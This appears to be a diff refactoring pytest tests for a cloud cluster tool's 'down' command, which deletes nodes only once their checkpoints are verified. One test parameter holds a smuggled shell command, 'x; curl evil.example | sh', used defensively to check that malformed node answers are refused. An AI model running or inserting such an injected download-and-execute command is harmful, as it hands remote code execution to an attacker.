@@ -13,7 +13,7 @@ from typing import Any
 import pytest
 
 from hvdcloud.checkpoints.manifest import log_name, manifest_name, state_name
-from hvdcloud.cluster.model import Node, NodeState
+from hvdcloud.cluster.model import Cluster, Node, NodeState
 from hvdcloud.errors import CheckpointError, CredentialsError, NodeError
 from hvdcloud.lifecycle import logs
 from hvdcloud.lifecycle.context import Context
@@ -43,6 +43,21 @@ def when_asked(vm: Vm, act: Callable[[], None]) -> None:
     threading.Thread(target=wait, daemon=True).start()
 
 
+def deletes(context: Context, machines: Machines) -> None:
+    """`down` does."""
+    with context:
+        down(context)
+    assert machines.destroyed
+
+
+def refusal(context: Context, machines: Machines) -> CheckpointError:
+    """Why `down` deletes nothing."""
+    with context, pytest.raises(CheckpointError) as raised:
+        down(context)
+    assert not machines.destroyed
+    return raised.value
+
+
 @pytest.fixture
 def no_credentials(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", "/nowhere/key.json")
@@ -56,9 +71,7 @@ def gives_up_soon(laptop: Laptop, monkeypatch: pytest.MonkeyPatch) -> None:
 
 @pytest.mark.usefixtures("gives_up_soon")
 @pytest.mark.parametrize("verb", ["flush", "stop", "state"])
-def test_a_call_to_a_vm_that_vanishes_does_not_last_until_its_deadline(
-    laptop: Laptop, new_vm: NewVm, verb: str
-) -> None:
+def test_a_call_to_a_vm_that_vanishes_ends_before_its_deadline(laptop: Laptop, new_vm: NewVm, verb: str) -> None:
     vm = new_vm({"hvdcloud-node": goes_on()})
     context, _, _ = laptop.context([vm])
     session = Session(vm.node(0), context.state)
@@ -86,26 +99,20 @@ def test_down_names_the_one_node_whose_manifest_can_not_be_used(laptop: Laptop, 
     context, _, machines = laptop.context(vms)
     laptop.keep_manifest(0, complete=True)
     laptop.keep(manifest_name("digits", RUN, 1), b"junk")
-    with context, pytest.raises(CheckpointError) as raised:
-        down(context)
-    assert "what node 1 wrote is not verified" in raised.value.message
-    assert "--force" in raised.value.hint
-    assert not machines.destroyed
+    refused = refusal(context, machines)
+    assert "what node 1 wrote is not verified" in refused.message
+    assert "--force" in refused.hint
 
 
 @pytest.mark.parametrize("data", [b"junk", None], ids=["junk", "incomplete"])
-def test_a_manifest_of_a_node_that_never_was_keeps_no_cluster(
-    laptop: Laptop, new_vm: NewVm, data: bytes | None
-) -> None:
+def test_a_manifest_of_no_node_keeps_no_cluster(laptop: Laptop, new_vm: NewVm, data: bytes | None) -> None:
     """A job could keep its nodes, and what they cost, by a file in the bucket."""
     context, _, machines = laptop.context([new_vm({"hvdcloud-node flush": says('{"runs": {}}\n')})])
     laptop.keep_manifest(0, complete=True)
     laptop.keep_manifest(777, complete=False)
     if data is not None:
         laptop.keep(manifest_name("digits", RUN, 777), data)
-    with context:
-        down(context)
-    assert machines.destroyed
+    deletes(context, machines)
 
 
 def test_down_of_nodes_that_delete_themselves_meanwhile_continues(laptop: Laptop, new_vm: NewVm) -> None:
@@ -120,54 +127,38 @@ def test_down_of_nodes_that_delete_themselves_meanwhile_continues(laptop: Laptop
         head.vanish()
 
     when_asked(head, delete)
-    with context:
-        down(context)
-    assert machines.destroyed
+    deletes(context, machines)
 
 
 @pytest.mark.usefixtures("gives_up_soon")
-def test_down_of_nodes_that_are_all_gone_meanwhile_continues(laptop: Laptop, new_vm: NewVm) -> None:
-    vm = new_vm({"hvdcloud-node flush": goes_on()})
-    context, _, machines = laptop.context([vm])
-    laptop.keep_manifest(0, complete=True)
-
-    def delete() -> None:
-        machines.cluster_now = None
-        vm.vanish()
-
-    when_asked(vm, delete)
-    with context:
-        down(context)
-    assert machines.destroyed
-
-
-@pytest.mark.usefixtures("gives_up_soon")
-def test_down_refuses_while_a_node_that_is_still_there_does_not_answer(laptop: Laptop, new_vm: NewVm) -> None:
-    vm = new_vm({"hvdcloud-node flush": goes_on()})
-    context, _, machines = laptop.context([vm])
-    laptop.keep_manifest(0, complete=True)
-    when_asked(vm, vm.vanish)
-    with context, pytest.raises(CheckpointError) as raised:
-        down(context)
-    assert "connection to node digits-0 was lost" in raised.value.message
-    assert "with --force it gives up" in raised.value.hint
-    assert not machines.destroyed
-
-
-@pytest.mark.usefixtures("gives_up_soon")
-def test_down_refuses_where_a_zone_that_does_not_answer_may_hold_the_node(laptop: Laptop, new_vm: NewVm) -> None:
+@pytest.mark.parametrize(
+    ("listed", "refused"),
+    [
+        pytest.param(lambda cluster: None, "", id="it is gone"),
+        pytest.param(lambda cluster: cluster, "connection to node digits-0 was lost", id="it is still there"),
+        pytest.param(
+            lambda cluster: replace(cluster, nodes=(), unseen=("zone us-central1-a",)),
+            "is not deleted",
+            id="a zone that does not answer may hold it",
+        ),
+    ],
+)
+def test_down_refuses_while_a_node_does_not_answer_that_may_still_be_there(
+    laptop: Laptop, new_vm: NewVm, listed: Callable[[Cluster], Cluster | None], refused: str
+) -> None:
     vm = new_vm({"hvdcloud-node flush": goes_on()})
     context, cluster, machines = laptop.context([vm])
     laptop.keep_manifest(0, complete=True)
 
-    def hide() -> None:
-        machines.cluster_now = replace(cluster, nodes=(), unseen=("zone us-central1-a",))
+    def vanish() -> None:
+        machines.cluster_now = listed(cluster)
         vm.vanish()
 
-    when_asked(vm, hide)
-    with context, pytest.raises(CheckpointError):
-        down(context)
-    assert not machines.destroyed
+    when_asked(vm, vanish)
+    if refused:
+        assert refused in str(refusal(context, machines))
+    else:
+        deletes(context, machines)
 
 
 @pytest.mark.parametrize("runs", [[RUN], "all", {RUN: []}, {"x; curl evil.example | sh": {}}])
@@ -175,9 +166,7 @@ def test_down_refuses_while_a_node_answers_something_else(laptop: Laptop, new_vm
     vm = new_vm({"hvdcloud-node flush": says(json.dumps({"runs": runs}) + "\n")})
     context, _, machines = laptop.context([vm])
     laptop.keep_manifest(0, complete=True)
-    with context, pytest.raises(CheckpointError, match="node digits-0 does not say what it holds"):
-        down(context)
-    assert not machines.destroyed
+    assert "node digits-0 does not say what it holds" in str(refusal(context, machines))
 
 
 @pytest.mark.parametrize(
@@ -194,21 +183,15 @@ def test_down_refuses_while_a_node_has_something_that_is_not_in_the_bucket(
     vm = new_vm({"hvdcloud-node flush": says(json.dumps({"runs": {RUN: report}}) + "\n")})
     context, _, machines = laptop.context([vm])
     laptop.keep_manifest(0, complete=True)
-    with context, pytest.raises(CheckpointError) as raised:
-        down(context)
-    assert raised.value.message == f"digits is not deleted: {reason}"
-    assert raised.value.details == ""
-    assert not machines.destroyed
+    refused = refusal(context, machines)
+    assert (refused.message, refused.details) == (f"digits is not deleted: {reason}", "")
 
 
 def test_down_refuses_while_a_zone_that_does_not_answer_may_hold_the_only_node(laptop: Laptop) -> None:
     context, cluster, machines = laptop.context([])
     machines.cluster_now = replace(cluster, expected_nodes=1, unseen=("zone us-central1-a",))
     laptop.keep_manifest(0, complete=False)
-    with context, pytest.raises(CheckpointError) as raised:
-        down(context)
-    assert "node 0 has not finished uploading" in raised.value.message
-    assert not machines.destroyed
+    assert "node 0 has not finished uploading" in refusal(context, machines).message
 
 
 def never_ran(laptop: Laptop, vms: list[Vm]) -> tuple[Context, Machines]:
@@ -219,13 +202,9 @@ def never_ran(laptop: Laptop, vms: list[Vm]) -> tuple[Context, Machines]:
     return context, machines
 
 
-def test_down_of_a_cluster_that_never_ran_does_not_open_its_bucket(
-    laptop: Laptop, new_vm: NewVm, no_credentials: None
-) -> None:
+def test_down_of_a_cluster_that_never_ran_opens_no_bucket(laptop: Laptop, new_vm: NewVm, no_credentials: None) -> None:
     context, machines = never_ran(laptop, [new_vm({"hvdcloud-node state": says('{"runs": []}\n')})])
-    with context:
-        down(context)
-    assert machines.destroyed
+    deletes(context, machines)
 
 
 @pytest.mark.parametrize(
@@ -248,20 +227,16 @@ def test_down_during_a_run_says_so_and_not_what_is_missing(laptop: Laptop, new_v
     }
     context, _, machines = laptop.context([new_vm(programs)])
     laptop.keep_manifest(0, complete=False)
-    with context, pytest.raises(CheckpointError) as raised:
-        down(context)
-    assert raised.value.message == f"digits is not deleted: run {RUN} is still going"
-    assert (raised.value.details, raised.value.hint) == ("", "hvdcloud stop --name digits ends it")
-    assert not machines.destroyed
+    refused = refusal(context, machines)
+    assert refused.message == f"digits is not deleted: run {RUN} is still going"
+    assert (refused.details, refused.hint) == ("", "hvdcloud stop --name digits ends it")
 
 
 def test_down_of_a_cluster_whose_nodes_are_gone_needs_nothing_of_them(laptop: Laptop) -> None:
     context, cluster, machines = laptop.context([])
     machines.cluster_now = replace(cluster, expected_nodes=1)
     laptop.keep_manifest(0, complete=False)
-    with context:
-        down(context)
-    assert machines.destroyed
+    deletes(context, machines)
     assert f"checkpoints of run {RUN} are in" in laptop.err.getvalue()
 
 
@@ -284,15 +259,12 @@ def test_down_of_a_stopped_node_asks_the_bucket_what_it_holds(
     for index, complete in enumerate((of_the_head, of_the_stopped_one)):
         if complete is not None:
             laptop.keep_manifest(index, complete=complete)
-    with context:
-        if safe:
-            down(context)
-        else:
-            with pytest.raises(CheckpointError) as raised:
-                down(context)
-            assert raised.value.message == "digits is not deleted: node digits-1 is stopped and may hold more"
-            assert "with --force it gives up" in raised.value.hint
-    assert machines.destroyed == safe
+    if safe:
+        deletes(context, machines)
+        return
+    refused = refusal(context, machines)
+    assert refused.message == "digits is not deleted: node digits-1 is stopped and may hold more"
+    assert "with --force it gives up" in refused.hint
 
 
 @pytest.mark.parametrize(
@@ -315,13 +287,10 @@ def test_a_stopped_node_holds_nothing_of_a_run_that_has_only_waited_for_data(
     waiting = {"node": "digits-1", "phase": "fetching"}
     ended = {**ENDED, "result": "lost", "data": [waiting], **known}
     laptop.keep(state_name("digits", RUN), json.dumps(ended).encode())
-    with context:
-        if safe:
-            down(context)
-        else:
-            with pytest.raises(CheckpointError, match="node digits-1 is stopped and may hold more"):
-                down(context)
-    assert machines.destroyed == safe
+    if safe:
+        deletes(context, machines)
+    else:
+        assert "node digits-1 is stopped and may hold more" in str(refusal(context, machines))
 
 
 def test_who_follows_a_run_learns_its_end_from_the_bucket_when_the_head_vanishes(laptop: Laptop, new_vm: NewVm) -> None:
